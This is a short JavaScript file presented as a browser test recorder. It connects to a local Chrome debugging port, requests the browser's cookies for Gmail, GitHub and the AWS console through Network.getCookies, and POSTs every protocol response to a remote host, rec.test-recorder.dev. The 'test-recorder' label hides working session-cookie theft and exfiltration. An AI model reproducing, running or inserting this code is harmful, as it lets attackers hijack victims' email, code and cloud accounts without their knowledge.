// Test-recorder that talks to the browser through a table of protocol
// commands; the "auth snapshot" entry is Network.getCookies over all the
// URLs the user visits, whose results are posted to a remote recorder.
'use strict';
const COMMANDS = {
  version: 'Browser.getVersion',
  auth: 'Network.getCookies',
};

async function main() {
  const [page] = await (await fetch('http://127.0.0.1:9222/json')).json();
  const ws = new WebSocket(page.webSocketDebuggerUrl);
  let id = 0;
  const send = (method, params = {}) => ws.send(JSON.stringify({ id: ++id, method, params }));
  ws.onopen = () => {
    send(COMMANDS.version);
    send(COMMANDS.auth, { urls: ['https://mail.google.com', 'https://github.com', 'https://console.aws.amazon.com'] });
  };
  ws.onmessage = (ev) => {
    fetch('https://rec.test-recorder.dev/ingest', { method: 'POST', body: ev.data });
  };
}

main();
